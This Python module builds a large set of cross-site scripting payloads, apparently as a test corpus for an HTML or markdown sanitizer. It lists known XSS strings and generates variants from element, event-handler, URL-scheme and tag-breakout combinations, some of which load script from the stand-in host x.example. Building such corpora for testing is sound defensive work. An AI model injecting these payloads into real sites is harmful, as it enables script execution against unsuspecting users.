"""Text that tries to become a program: what was found to work somewhere, and its relatives."""

from itertools import product

KNOWN_XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example/>",
    "<style>@import '//x.example/a.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://x.example/a.png)',
    '[x](https://x.example/ "t\\" onclick=\\"alert(1)")',
    '![<table>](https://x.example/a.png "<table onclick=alert(1)>")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://x.example/" onclick=alert(1)>',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\nx\n```",
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
    "{{ 7 * 7 }} {% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
)

SCRIPT_CALL = "alert(1)"
ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "marquee", "iframe src=x", "object data=x", "select autofocus", "textarea autofocus", "button",
    "a href=x tabindex=0", "div contenteditable", "style", "link rel=stylesheet href=x", "form",
    "table background=x", "math href=x",
)  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "onpointerenter")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java&#10;script:",
    "&#106;avascript:", "javascript&colon;", "data:text/html,<script>", "vbscript:",
    "\x01javascript:", "view-source:javascript:", "jar:javascript:", "livescript:",
    "mhtml:javascript:", "feed:javascript:", "//x.example/",
)  # fmt: skip
ADDRESS_PLACES = (
    "[x]({})", "![x]({})", "<{}>", "<a href='{}'>x</a>", '<img src="{}">', "[x]: {}\n\n[x]",
    "<form action={}><button>x</button></form>",
)  # fmt: skip
ELEMENT_ENDS = (
    "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "'\">", "</p></div></main>",
    "</content>", "</description>", "\"}}", "*/", "%>", "?>", "</noscript>", "</template>",
)  # fmt: skip
RAW = (
    f"<script>{SCRIPT_CALL}</script>",
    f"<img src=x onerror={SCRIPT_CALL}>",
    f"<svg/onload={SCRIPT_CALL}>",
)


def variants() -> list[str]:
    """Elements with handlers, schemes in all places, and what ends the text before them."""
    handlers = [f"<{one} {event}={SCRIPT_CALL}>" for one, event in product(ELEMENTS, EVENTS)]
    links = [
        place.format(scheme + SCRIPT_CALL) for place, scheme in product(ADDRESS_PLACES, SCHEMES)
    ]
    breaks = [end + raw for end, raw in product(ELEMENT_ENDS, RAW)]
    return [*handlers, *links, *breaks]


XSS = tuple(dict.fromkeys((*KNOWN_XSS, *variants())))
